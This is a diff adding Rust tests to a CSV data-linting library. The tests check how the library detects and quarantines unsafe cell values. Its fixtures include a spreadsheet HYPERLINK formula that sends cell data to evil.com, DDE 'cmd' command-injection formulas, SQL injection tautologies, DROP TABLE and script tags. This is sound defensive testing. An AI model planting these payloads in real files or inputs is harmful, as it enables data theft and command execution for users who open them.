@@ -1,7 +1,24 @@
 use crate::tests::csv_tests::csv_utils::generate_csv_file;
 use crate::tests::utils_tests::delete_file;
 use csv::StringRecord;
+use datalib::enums::clean_mode::CleanMode;
+use datalib::enums::column_type::ColumnType;
+use datalib::enums::detection_source::DetectionSource;
+use datalib::enums::drift_kind::DriftKind;
+use datalib::enums::severity::Severity;
+use datalib::enums::structure_issue::StructureIssue;
+use datalib::structs::anomaly::Anomaly;
+use datalib::structs::column_profile::ColumnProfile;
+use datalib::structs::column_stats::ColumnStats;
 use datalib::structs::csv_file::CsvFile;
+use datalib::structs::csv_splitter::CsvSplitter;
+use datalib::structs::detection::Detection;
+use datalib::structs::field_region::FieldRegion;
+use datalib::structs::file_profile::FileProfile;
+use datalib::structs::inferable_value::InferableValue;
+use datalib::structs::rule_set::RuleSet;
+use datalib::structs::schema::Schema;
+use datalib::structs::structure_finding::StructureFinding;
 
 #[tokio::test]
 async fn test_get_headers() {
@@ -58,6 +75,28 @@ async fn test_get_headers() {
     delete_file(FILE_NAME);
 }
 
+#[tokio::test]
+async fn test_get_quoted_headers() {
+    const FILE_NAME: &str = "test_get_quoted_headers.csv";
+    const CONTENT: &str = "\"Last, First\",\"Phone\", City \n\"Doe, John\",0601020304,Paris\n";
+
+    std::fs::write(FILE_NAME, CONTENT).unwrap();
+    let csv_file: CsvFile = CsvFile::new(FILE_NAME, b',');
+    let headers: StringRecord = csv_file.get_headers().unwrap();
+    assert_eq!(headers.len(), 3);
+    assert_eq!(&headers[0], "Last, First");
+    assert_eq!(&headers[1], "Phone");
+    assert_eq!(&headers[2], "City");
+
+    // The headers line up with the fields of the records
+    let mut rdr = csv_file.reader_builder().from_path(FILE_NAME).unwrap();
+    let record: StringRecord = rdr.records().next().unwrap().unwrap();
+    assert_eq!(record.len(), headers.len());
+    assert_eq!(&record[0], "Doe, John");
+
+    delete_file(FILE_NAME);
+}
+
 #[tokio::test]
 async fn test_read_first_line() {
     const FILE_NAME: &str = "test_read_first_line.csv";
@@ -103,7 +142,576 @@ async fn test_csv_struct() {
     assert_eq!(csv_file.separator, SEPARATOR);
 }
 
+#[tokio::test]
+async fn test_stream_unsafe_values() {
+    const FILE_NAME: &str = "test_stream_unsafe_values.csv";
+    // The quoted record spans two lines and the field of the ragged row is analysed,
+    // the lines of the values follow the file
+    const CONTENT: &str = "Name,Comment\nJohn,<script>\nJane,' OR 'a'='a\nAlice,<script>\nEve,\"two\nlines\"\nragged\nBob,DROP TABLE x;\n";
+
+    std::fs::write(FILE_NAME, CONTENT).unwrap();
+    let csv_file: CsvFile = CsvFile::new(FILE_NAME, b',');
+
+    let mut chunk_sizes: Vec<usize> = Vec::new();
+    let mut values: Vec<String> = Vec::new();
+    let mut lines: Vec<u32> = Vec::new();
+    let mut regions: Vec<FieldRegion> = Vec::new();
+    let mut matched_patterns: Vec<Vec<String>> = Vec::new();
+    let mut regex_analyze: u32 = 0;
+    let mut column_stats: Vec<ColumnStats> = Vec::new();
+
+    csv_file
+        .stream_unsafe_values(
+            2,
+            1,
+            &RuleSet::default(),
+            &Schema::default(),
+            &mut regex_analyze,
+            &mut column_stats,
+            |chunk, _| {
+                chunk_sizes.push(chunk.len());
+                for data in chunk {
+                    values.push(data.value);
+                    lines.push(data.line);
+                    regions.extend(data.region);
+                    matched_patterns.push(data.matched_patterns);
+                }
+                Ok(())
+            },
+        )
+        .unwrap();
+
+    assert_eq!(chunk_sizes, vec![2, 2]);
+    assert_eq!(
+        values,
+        vec!["<script>", "' OR 'a'='a", "<script>", "DROP TABLE x;"]
+    );
+    assert_eq!(lines, vec![2, 3, 4, 8]);
+    assert_eq!(
+        regions,
+        vec![
+            FieldRegion::new((2, 6), (2, 14)),
+            FieldRegion::new((3, 6), (3, 17)),
+            FieldRegion::new((4, 7), (4, 15)),
+            FieldRegion::new((8, 5), (8, 18)),
+        ]
+    );
+    assert_eq!(
+        matched_patterns,
+        vec![
+            vec![],
+            vec![],
+            vec![],
+            vec!["sql_keyword_regex", "illegal_char_regex"],
+        ]
+    );
+
+    let comment: &ColumnStats = &column_stats[1];
+    assert_eq!(comment.column, "Comment");
+    assert_eq!((comment.rows, comment.empty), (5, 0));
+    assert_eq!(comment.distinct_estimate, 4);
+    assert_eq!((comment.prefilter_rejected, comment.sent_to_model), (1, 1));
+    // Script tags and SQL tautologies are reported by their detectors instead of being sent to the model
+    assert_eq!(comment.detected, 3);
+    assert_eq!(column_stats[0].prefilter_rejected, 6);
+
+    let mut regex_analyze_collected: u32 = 0;
+    let mut column_stats_collected: Vec<ColumnStats> = Vec::new();
+    let collected = csv_file
+        .collect_unsafe_value(
+            &csv_file,
+            &RuleSet::default(),
+            &Schema::default(),
+            &mut regex_analyze_collected,
+            &mut column_stats_collected,
+            &mut Vec::new(),
+        )
+        .unwrap();
+    assert_eq!(collected.len(), 4);
+    assert_eq!(regex_analyze, regex_analyze_collected);
+    assert_eq!(column_stats_collected.len(), 2);
+
+    delete_file(FILE_NAME);
+}
+
+#[tokio::test]
+async fn test_stream_with_rules_file() {
+    const FILE_NAME: &str = "test_stream_with_rules_file.csv";
+    const RULES_FILE: &str = "test_stream_with_rules_file.toml";
+    const CONTENT: &str = "Sku,Comment\nAB-12/34,AB-12/34\nCD-56/78,<script>\n";
+    const RULES: &str = r#"
+        mode = "replace"
+
+        [[allow]]
+        name = "sku"
+        pattern = '^[A-Z]{2}-\d{2}/\d{2}$'
+        columns = ["Sku"]
+
+        [[deny]]
+        name = "special_char"
+        pattern = '[^\w\s]'
+        severity = "high"
+    "#;
+
+    std::fs::write(FILE_NAME, CONTENT).unwrap();
+    std::fs::write(RULES_FILE, RULES).unwrap();
+    let csv_file: CsvFile = CsvFile::new(FILE_NAME, b',');
+    let rule_set: RuleSet = RuleSet::from_file(RULES_FILE).unwrap();
+    assert_eq!(rule_set.allow_rules().len(), 1);
+    assert_eq!(rule_set.deny_rules().len(), 1);
+
+    let mut regex_analyze: u32 = 0;
+    let values: Vec<InferableValue> = csv_file
+        .collect_unsafe_value(
+            &csv_file,
+            &rule_set,
+            &Schema::default(),
+            &mut regex_analyze,
+            &mut Vec::new(),
+            &mut Vec::new(),
+        )
+        .unwrap();
+
+    let locations: Vec<(&str, u32, usize)> = values
+        .iter()
+        .map(|data| (data.value.as_str(), data.line, data.column_index))
+        .collect();
+    assert_eq!(locations, vec![("AB-12/34", 2, 1), ("<script>", 3, 1)]);
+    assert_eq!(values[0].matched_patterns, ["special_char"]);
+    assert_eq!(values[0].severity, Severity::High);
+    assert_eq!(regex_analyze, 2);
+
+    std::fs::write(
+        RULES_FILE,
+        "mode = \"merge\"\nallow = [{ name = \"broken\", pattern = \"(\" }]\n",
+    )
+    .unwrap();
+    assert!(RuleSet::from_file(RULES_FILE).is_err());
+
+    delete_file(FILE_NAME);
+    delete_file(RULES_FILE);
+}
+
+#[tokio::test]
+async fn test_stream_with_schema() {
+    const FILE_NAME: &str = "test_stream_with_schema.csv";
+    const CONTENT: &str =
+        "Id,Phone,Status,Blob\n1,+33 6 12 34 56 78,open,<b>\n2x,12,pending,<i>\n3,,closed,\n";
+    const SCHEMA: &str = r#"{
+        "Id": {"type": "integer"},
+        "Phone": {"type": "phone"},
+        "2": {"type": "enum", "values": ["open", "closed"]},
+        "Blob": {"type": "skip"}
+    }"#;
+
+    std::fs::write(FILE_NAME, CONTENT).unwrap();
+    let csv_file: CsvFile = CsvFile::new(FILE_NAME, b',');
+    let schema: Schema = serde_json::from_str(SCHEMA).unwrap();
+
+    let mut regex_analyze: u32 = 0;
+    let mut column_stats: Vec<ColumnStats> = Vec::new();
+    let values: Vec<InferableValue> = csv_file
+        .collect_unsafe_value(
+            &csv_file,
+            &RuleSet::default(),
+            &schema,
+            &mut regex_analyze,
+            &mut column_stats,
+            &mut Vec::new(),
+        )
+        .unwrap();
+
+    let violations: Vec<(&str, Vec<String>)> = values
+        .iter()
+        .map(|data| {
+            let detection: &Detection = data.detection.as_ref().unwrap();
+            assert_eq!(detection.source, DetectionSource::Schema);
+            (data.value.as_str(), detection.reasons.clone())
+        })
+        .collect();
+    assert_eq!(
+        violations,
+        vec![
+            ("2x", vec![String::from("schema:integer")]),
+            ("12", vec![String::from("schema:phone")]),
+            ("pending", vec![String::from("schema:enum")])
+        ]
+    );
+    assert_eq!(regex_analyze, 6);
+
+    let violations_per_column: Vec<usize> = column_stats
+        .iter()
+        .map(|stats| stats.schema_violations)
+        .collect();
+    assert_eq!(violations_per_column, [1, 1, 1, 0]);
+    assert_eq!(
+        (column_stats[1].empty, column_stats[1].prefilter_rejected),
+        (1, 1)
+    );
+
+    delete_file(FILE_NAME);
+}
+
+#[tokio::test]
+async fn test_formula_detection() {
+    const FILE_NAME: &str = "test_formula_detection.csv";
+    const CONTENT: &str = "Id,Comment\n1,\"=HYPERLINK(\"\"http://evil.com?\"\"&A1)\"\n2,\"\t=SUM(A1:A3)\"\n=cmd|' /C calc'!A0,-12\n4,@john\n";
+    const SCHEMA: &str = r#"{"Id": {"type": "integer"}}"#;
+
+    std::fs::write(FILE_NAME, CONTENT).unwrap();
+    let csv_file: CsvFile = CsvFile::new(FILE_NAME, b',');
+    let schema: Schema = serde_json::from_str(SCHEMA).unwrap();
+
+    let mut column_stats: Vec<ColumnStats> = Vec::new();
+    let values: Vec<InferableValue> = csv_file
+        .collect_unsafe_value(
+            &csv_file,
+            &RuleSet::default(),
+            &schema,
+            &mut 0,
+            &mut column_stats,
+            &mut Vec::new(),
+        )
+        .unwrap();
+
+    // Formulas are detected before the schema types and the rules, negative numbers and mentions are not
+    let detections: Vec<(&str, DetectionSource, Severity)> = values
+        .iter()
+        .filter_map(|data| {
+            let detection: &Detection = data.detection.as_ref()?;
+            Some((data.value.as_str(), detection.source, detection.severity))
+        })
+        .collect();
+    assert_eq!(
+        detections,
+        [
+            (
+                "=HYPERLINK(\"http://evil.com?\"&A1)",
+                DetectionSource::Formula,
+                Severity::High
+            ),
+            ("=SUM(A1:A3)", DetectionSource::Formula, Severity::Medium),
+            (
+                "=cmd|' /C calc'!A0",
+                DetectionSource::Formula,
+                Severity::High
+            )
+        ]
+    );
+
+    let detected_per_column: Vec<usize> = column_stats.iter().map(|stats| stats.detected).collect();
+    assert_eq!(detected_per_column, [1, 2]);
+    assert_eq!(column_stats[0].schema_violations, 0);
+
+    delete_file(FILE_NAME);
+}
+
+#[tokio::test]
+async fn test_structure_findings() {
+    const FILE_NAME: &str = "test_structure_findings.csv";
+    const CONTENT: &str = "Name,Comment,Name\nJohn,<script>,x\nJane,=cmd|'/c calc'!A1\n\nBob,a\0b,y\nAlice,\"DROP TABLE x;\",z,\n";
+
+    std::fs::write(FILE_NAME, CONTENT).unwrap();
+    let csv_file: CsvFile = CsvFile::new(FILE_NAME, b',');
+
+    let mut structure_findings: Vec<StructureFinding> = Vec::new();
+    let values: Vec<InferableValue> = csv_file
+        .collect_unsafe_value(
+            &csv_file,
+            &RuleSet::default(),
+            &Schema::default(),
+            &mut 0,
+            &mut Vec::new(),
+            &mut structure_findings,
+        )
+        .unwrap();
+
+    let findings: Vec<(StructureIssue, u32)> = structure_findings
+        .iter()
+        .map(|finding| (finding.issue, finding.line))
+        .collect();
+    assert_eq!(
+        findings,
+        [
+            (StructureIssue::DuplicateHeader, 1),
+            (StructureIssue::RaggedRow, 3),
+            (StructureIssue::BlankLine, 4),
+            (StructureIssue::EmbeddedNul, 5),
+            (StructureIssue::TrailingDelimiter, 6)
+        ]
+    );
+    assert_eq!(structure_findings[0].column.as_deref(), Some("Name"));
+
+    // The values of every row are still analysed, the ragged rows included
+    let unsafe_values: Vec<&str> = values.iter().map(|data| data.value.as_str()).collect();
+    assert_eq!(
+        unsafe_values,
+        ["<script>", "=cmd|'/c calc'!A1", "a\0b", "DROP TABLE x;"]
+    );
+    assert_eq!(
+        values[1]
+            .detection
+            .as_ref()
+            .map(|detection| detection.source),
+        Some(DetectionSource::Formula)
+    );
+
+    delete_file(FILE_NAME);
+}
+
+#[tokio::test]
+async fn test_profile_csv_file() {
+    const FILE_NAME: &str = "test_profile_csv_file.csv";
+    const PROFILE_FILE: &str = "test_profile_csv_file.profile.json";
+    const CONTENT: &str = "Id,Email,Amount,Date,Note\n1,a@b.com,10.5,2024-01-02,hello\n2,c@d.org,12,2024-02-03,\n3,e@f.net,11.5,2024-03-04,hello\n";
+
+    std::fs::write(FILE_NAME, CONTENT).unwrap();
+    let profile: FileProfile = FileProfile::from_csv_file(&CsvFile::new(FILE_NAME, b',')).unwrap();
+    assert_eq!(profile.rows, 3);
+
+    let types: Vec<&ColumnType> = profile
+        .columns
+        .iter()
+        .map(|column| &column.column_type)
+        .collect();
+    assert_eq!(
+        types,
+        [
+            &ColumnType::Integer,
+            &ColumnType::Email,
+            &ColumnType::Decimal,
+            &ColumnType::Date {
+                format: String::from("%Y-%m-%d")
+            },
+            &ColumnType::Text
+        ]
+    );
+
+    let id: &ColumnProfile = &profile.columns[0];
+    assert_eq!((id.min, id.max, id.mean), (Some(1.0), Some(3.0), Some(2.0)));
+    assert_eq!(id.regex_class, "numeric_regex");
+    assert_eq!(profile.columns[1].regex_class, "email_regex");
+
+    let note: &ColumnProfile = &profile.columns[4];
+    assert!(note.nullable && !id.nullable);
+    assert_eq!(note.distinct_count, 1);
+
+    profile.save_to_file(PROFILE_FILE.as_ref()).unwrap();
+    let saved: FileProfile = FileProfile::from_file(PROFILE_FILE).unwrap();
+    assert_eq!(saved.columns[3].column_type, profile.columns[3].column_type);
+    assert!(saved.compare(&profile).is_empty());
+
+    delete_file(FILE_NAME);
+    delete_file(PROFILE_FILE);
+}
+
+#[tokio::test]
+async fn test_profile_drift() {
+    const BASELINE_FILE: &str = "test_profile_drift_baseline.csv";
+    const FILE_NAME: &str = "test_profile_drift.csv";
+
+    std::fs::write(
+        BASELINE_FILE,
+        "Id,Email,Amount,Date\n1,a@b.com,10,2024-01-02\n2,c@d.org,12,2024-02-03\n",
+    )
+    .unwrap();
+    std::fs::write(
+        FILE_NAME,
+        "Id,Mail,Amount,Extra\n1x,a@b.com,900,x\n,c@d.org,1200,y\n",
+    )
+    .unwrap();
+
+    let baseline: FileProfile =
+        FileProfile::from_csv_file(&CsvFile::new(BASELINE_FILE, b',')).unwrap();
+    let profile: FileProfile = FileProfile::from_csv_file(&CsvFile::new(FILE_NAME, b',')).unwrap();
+
+    let drifts: Vec<(DriftKind, String)> = profile
+        .compare(&baseline)
+        .into_iter()
+        .map(|drift| (drift.kind, drift.column))
+        .collect();
+    let expected: Vec<(DriftKind, String)> = [
+        (DriftKind::TypeChange, "Id"),
+        (DriftKind::NullabilityChange, "Id"),
+        (DriftKind::DistributionShift, "Id"),
+        (DriftKind::DistributionShift, "Id"),
+        (DriftKind::RenamedColumn, "Email"),
+        (DriftKind::DistributionShift, "Amount"),
+        (DriftKind::DistributionShift, "Amount"),
+        (DriftKind::MissingColumn, "Date"),
+        (DriftKind::AddedColumn, "Extra"),
+    ]
+    .into_iter()
+    .map(|(kind, column)| (kind, String::from(column)))
+    .collect();
+    assert_eq!(drifts, expected);
+
+    delete_file(BASELINE_FILE);
+    delete_file(FILE_NAME);
+}
+
+#[tokio::test]
+async fn test_from_file_separator() {
+    const FILE_NAME: &str = "test_from_file_separator.csv";
+
+    for separator in [b',', b';', b'\t', b'|'] {
+        generate_csv_file(FILE_NAME, separator);
+        let csv_file: CsvFile = CsvFile::from_file(FILE_NAME).unwrap();
+        assert_eq!(csv_file.separator, separator);
+        assert!((csv_file.separator_confidence - 1.0).abs() < f32::EPSILON);
+    }
+
+    let csv_file: CsvFile = CsvFile::from_file_with_separator(FILE_NAME, Some(b';')).unwrap();
+    assert_eq!(csv_file.separator, b';');
+    delete_file(FILE_NAME);
+
+    std::fs::write(FILE_NAME, "").unwrap();
+    assert!(CsvFile::from_file(FILE_NAME).is_err());
+    delete_file(FILE_NAME);
+}
+
+#[tokio::test]
+async fn test_from_file_encoding() {
+    const FILE_NAME: &str = "test_from_file_encoding.csv";
+    const CONTENT: &str = "Nom;Prénom;Ville\nDurand;Hélène;Orléans\nMüller;François;Besançon\n";
+
+    let utf16le: Vec<u8> = [0xFF, 0xFE]
+        .into_iter()
+        .chain(CONTENT.encode_utf16().flat_map(u16::to_le_bytes))
+        .collect();
+    let (windows_1252, _, _) = encoding_rs::WINDOWS_1252.encode(CONTENT);
+    let utf8_bom: Vec<u8> = [0xEF, 0xBB, 0xBF]
+        .into_iter()
+        .chain(CONTENT.bytes())
+        .collect();
+
+    for (bytes, encoding_name) in [
+        (utf16le, "UTF-16LE"),
+        (windows_1252.into_owned(), "windows-1252"),
+        (utf8_bom, "UTF-8"),
+    ] {
+        std::fs::write(FILE_NAME, bytes).unwrap();
+        let csv_file: CsvFile = CsvFile::from_file(FILE_NAME).unwrap();
+        assert_eq!(csv_file.encoding.name(), encoding_name);
+        assert_eq!(csv_file.separator, b';');
+
+        let headers: StringRecord = csv_file.get_headers().unwrap();
+        assert_eq!(&headers[0], "Nom");
+        assert_eq!(&headers[1], "Prénom");
+
+        let mut rdr = csv_file
+            .reader_builder()
+            .from_reader(csv_file.open_reader().unwrap());
+        let record: StringRecord = rdr.records().next().unwrap().unwrap();
+        assert_eq!(&record[1], "Hélène");
+        assert_eq!(&record[2], "Orléans");
+    }
+
+    delete_file(FILE_NAME);
+}
+
+#[tokio::test]
+async fn test_legacy_bytes_after_sample() {
+    const FILE_NAME: &str = "test_legacy_bytes_after_sample.csv";
+
+    // The first 64 KB are pure ASCII, the Windows-1252 accents only come after them
+    let mut bytes: Vec<u8> = b"Name;City\n".to_vec();
+    bytes.extend("John;Paris\n".repeat(8000).bytes());
+    bytes.extend_from_slice(b"H\xE9l\xE8ne;Orl\xE9ans\n");
+    std::fs::write(FILE_NAME, bytes).unwrap();
+
+    let csv_file: CsvFile = CsvFile::from_file(FILE_NAME).unwrap();
+    let mut rdr = csv_file
+        .reader_builder()
+        .from_reader(csv_file.open_reader().unwrap());
+    let record: StringRecord = rdr.records().last().unwrap().unwrap();
+    assert_eq!(&record[0], "Hélène");
+    assert_eq!(&record[1], "Orléans");
+
+    delete_file(FILE_NAME);
+}
+
+#[tokio::test]
+async fn test_stdin_csv_file() {
+    let csv_file: CsvFile = CsvFile::new("-", b',');
+    assert!(csv_file.is_stdin());
+    assert!(csv_file.open_reader().is_ok());
+    assert!(
+        csv_file.open_reader().is_err(),
+        "The standard input can only be read once"
+    );
+
+    let csv_file: CsvFile = CsvFile::new("data.csv", b',');
+    assert!(!csv_file.is_stdin());
+}
+
 #[cfg(test)]
+#[tokio::test]
+async fn test_split_clean_and_quarantine() {
+    const CSV_FILE: &str = "test_split_clean_and_quarantine.csv";
+    const CONTENT: &str =
+        "Name;Comment\nJohn;\"ok; fine\"\nJane;' OR 'a'='a\nBob;' OR 'a'='a\nAlice\nJohn;John\n";
+
+    std::fs::write(CSV_FILE, CONTENT).unwrap();
+    let csv_file: CsvFile = CsvFile::new(CSV_FILE, b';');
+
+    // "John" is flagged in the comment of the last row only, not as a name
+    let mut splitter: CsvSplitter = CsvSplitter::new();
+    for (value, line, score) in [
+        ("' OR 'a'='a", 3, 0.9),
+        ("' OR 'a'='a", 4, 0.9),
+        ("John", 6, 0.85),
+    ] {
+        let mut anomaly: Anomaly = Anomaly::new(
+            String::from(value),
+            String::from("Comment"),
+            line,
+            score,
+            0.8,
+        );
+        anomaly.column_index = 1;
+        splitter.add_anomaly(&anomaly);
+    }
+
+    let mut clean: Vec<u8> = Vec::new();
+    let mut quarantine: Vec<u8> = Vec::new();
+    let (clean_rows, quarantined_rows): (usize, usize) = splitter
+        .split(
+            &csv_file,
+            Some(&mut clean),
+            CleanMode::Rows,
+            Some(&mut quarantine),
+        )
+        .unwrap();
+
+    assert_eq!((clean_rows, quarantined_rows), (1, 4));
+    assert_eq!(
+        String::from_utf8(clean).unwrap(),
+        "Name;Comment\nJohn;\"ok; fine\"\n"
+    );
+    assert_eq!(
+        String::from_utf8(quarantine).unwrap(),
+        "Name;Comment;datalint_reason;datalint_score\n\
+         Jane;' OR 'a'='a;Comment: model;0.9\n\
+         Bob;' OR 'a'='a;Comment: model;0.9\n\
+         Alice;Unexpected number of fields: 1 instead of 2;\n\
+         John;John;Comment: model;0.85\n"
+    );
+
+    let mut clean: Vec<u8> = Vec::new();
+    let (clean_rows, quarantined_rows): (usize, usize) = splitter
+        .split(&csv_file, Some(&mut clean), CleanMode::Cells, None)
+        .unwrap();
+
+    assert_eq!((clean_rows, quarantined_rows), (4, 0));
+    assert_eq!(
+        String::from_utf8(clean).unwrap(),
+        "Name;Comment\nJohn;\"ok; fine\"\nJane;\nBob;\nJohn;\n"
+    );
+
+    delete_file(CSV_FILE);
+}
+
 pub mod csv_utils {
     use std::fs::File;
     use std::io::Write;